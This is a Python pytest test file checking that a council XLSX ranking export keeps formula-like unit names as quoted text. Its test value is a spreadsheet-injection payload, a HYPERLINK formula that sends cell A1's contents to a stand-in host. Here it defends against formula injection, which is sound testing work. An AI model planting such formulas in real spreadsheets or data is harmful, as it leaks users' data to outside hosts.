"""The council's XLSX holds names as text: a unit name that looks like a formula is shown as
written, and one saved with Word's line break still exports."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from theodoi.organisation.models import Unit
from theodoi.tasks.tests.conftest import World, client_for

FORMULA = '=HYPERLINK("http://vidu.test/?d="&A1,"Bấm vào đây")'


@pytest.mark.usefixtures("quarter")
@pytest.mark.parametrize("name", [FORMULA, FORMULA + "\x0bPháp chế"])
def test_a_unit_name_like_a_formula_is_exported_as_written(world: World, name: str) -> None:
    Unit.objects.filter(code="PC").update(name=name)
    response = client_for(world.leader).get("/danh-gia/xep-hang/?loai=quy&nam=2026&so=2&xuat=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    [cell] = [row[2] for row in sheet.iter_rows(min_row=7) if row[1].value == "PC"]
    assert (cell.value, cell.data_type) == (name.replace("\x0b", "\n"), "s")
    assert cell.quotePrefix
